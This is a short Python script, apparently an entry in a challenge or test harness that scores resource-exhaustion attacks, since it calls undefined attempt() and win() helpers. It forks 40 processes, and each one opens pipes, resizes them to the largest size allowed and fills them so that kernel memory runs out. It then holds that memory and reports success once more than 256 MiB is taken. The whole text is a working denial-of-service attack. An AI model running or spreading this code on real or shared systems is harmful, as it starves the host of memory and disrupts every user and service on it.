"""Fills pipes, whose contents are the kernel's memory and no process's.

gain: starve
"""

# %%
import fcntl
import os
import time


def fill():
    """Make pipes as large as they may be, and fill them; how many bytes that were."""
    held = 0
    while ends := attempt(os.pipe):
        for size in (2**31 - 1, 2**24, 2**20):
            attempt(fcntl.fcntl, ends[1], 1031, size)  # F_SETPIPE_SZ
        os.set_blocking(ends[1], False)
        while sent := attempt(os.write, ends[1], b"x" * 2**16):
            held += sent
    return held


for _ in range(40):
    if attempt(os.fork) == 0:
        fill()
        time.sleep(30)
        os._exit(0)
if fill() > 2**28:
    win()
